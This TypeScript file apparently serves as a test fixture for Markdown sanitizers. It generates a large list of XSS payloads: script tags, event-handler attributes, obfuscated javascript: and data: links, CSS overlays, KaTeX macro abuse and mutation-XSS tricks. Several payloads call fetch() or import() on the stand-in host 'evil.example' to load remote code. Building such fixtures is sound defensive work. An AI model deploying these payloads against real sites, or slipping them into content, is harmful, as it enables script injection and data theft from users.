/** Where a script would have to be fetched from, or a stolen word be sent to. */
const far = 'https://evil.example';

const scripts = ['alert(1)', `fetch('${far}/x')`, 'document.title="owned"', `import('${far}/x.js')`];

const cases = (word: string) => [word, word.toUpperCase(), [...word].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign)).join('')];
const entities = (text: string) => [...text].map(sign => `&#${sign.codePointAt(0)};`).join('');
const hexes = (text: string) => [...text].map(sign => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`).join('');

/** Ways to write a scheme that a filter may not know. */
const disguises = (scheme: string) => [
  ...cases(scheme),
  entities(scheme),
  hexes(scheme),
  scheme.replace('r', 'r&#9;'),
  scheme.replace('r', 'r&#10;'),
  scheme.replace('r', 'r&Tab;'),
  `&#1;${scheme}`,
  `&#160;${scheme}`,
  encodeURIComponent(scheme),
];

const schemes = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg,',
  'blob:',
  'file:///',
];

const links = schemes
  .flatMap(scheme => disguises(scheme))
  .flatMap((scheme, at) => [
    `[link ${at}](${scheme}alert(1))`,
    `[link ${at}](<${scheme}alert(1)>)`,
    `![picture ${at}](${scheme}alert(1))`,
    `<a href="${scheme}alert(1)">link ${at}</a>`,
  ]);

const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter'];
const elements = [
  'img src=x',
  'svg',
  'details open',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'select autofocus',
  'marquee',
];
const handlers = elements.flatMap(element =>
  events.map((event, at) => `<${element} ${cases(event)[at % 3]}=${['"', "'", ''][at % 3]}${scripts[0]}${['"', "'", ''][at % 3]}>`),
);

const fetched = [
  'script src',
  'iframe src',
  'frame src',
  'embed src',
  'object data',
  'link rel=stylesheet href',
  'link rel=prefetch href',
  'base href',
  'img src',
  'img srcset',
  'source srcset',
  'video poster',
  'audio src',
  'input type=image src',
  'body background',
  'table background',
  'form action',
  'button formaction',
  'use href',
  'image xlink:href',
  'applet code',
].flatMap(start => [`<${start}="${far}/x">`, `<${start.toUpperCase()}='//evil.example/x'>`]);

const whole = scripts.flatMap(script => [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<svg><script>${script}</script></svg>`,
  `<math><mtext><script>${script}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${script}</script>">`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<template><script>${script}</script></template>`,
  `"><script>${script}</script>`,
  `<scr<script>ipt>${script}</script>`,
]);

const styles = [
  'position:fixed;inset:0;z-index:9999;background:red',
  `background:url(${far}/x.png)`,
  `background-image:image-set("${far}/x.png" 1x)`,
  'width:100000px;height:100000px',
  `content:url(${far}/x)`,
].flatMap(style => [
  `<div style="${style}">cover</div>`,
  `<p style='${style}'>cover</p>`,
  `<style>body{${style}}</style>`,
  `<style>@import '${far}/x.css';*{${style}}</style>`,
]);

const maths = [
  `$\\href{javascript:alert(1)}{x}$`,
  `$\\url{javascript:alert(1)}$`,
  `$\\includegraphics{${far}/x.png}$`,
  `$\\htmlStyle{position:fixed;inset:0}{x}$`,
  `$\\htmlData{onclick=alert(1)}{x}$`,
  `$$\\def\\x{\\x\\x}\\x$$`,
  `$\\rule{100000em}{100000em}$`,
];

const code = [
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```js onload=alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '~~~<script>alert(1)</script>\nx\n~~~',
];

const references = [
  '[a]: javascript:alert(1)\n\n[a]',
  `![p]: ${far}/x.png\n\n![p][p]`,
  `<${['javascript', 'alert(1)'].join(':')}>`,
  `![p](${far}/x.png "onerror=alert(1)")`,
  '[a](https://evil.example" onmouseover="alert(1))',
  `[a](//evil.example/\u202Emoc.doog)`,
];

/** Attacks on whoever draws Markdown: tags, attributes, schemes and ways to write them. What swallows the rest stands at the end. */
export const markdownAttacks: readonly string[] = [
  ...whole,
  ...fetched,
  ...styles,
  ...handlers,
  ...links,
  ...maths,
  ...code,
  ...references,
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<textarea><img src=x onerror=alert(1)>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <script>alert(1)</script>',
];

/** The attacks in `count` texts. Each attack is a paragraph; a word at the start of a text shows that the text was drawn. */
export function attackTexts(count: number): string[] {
  const length = Math.ceil(markdownAttacks.length / count);
  return Array.from({ length: count }, (_, at) => `drawn${at}\n\n${markdownAttacks.slice(at * length, (at + 1) * length).join('\n\n')}`);
}
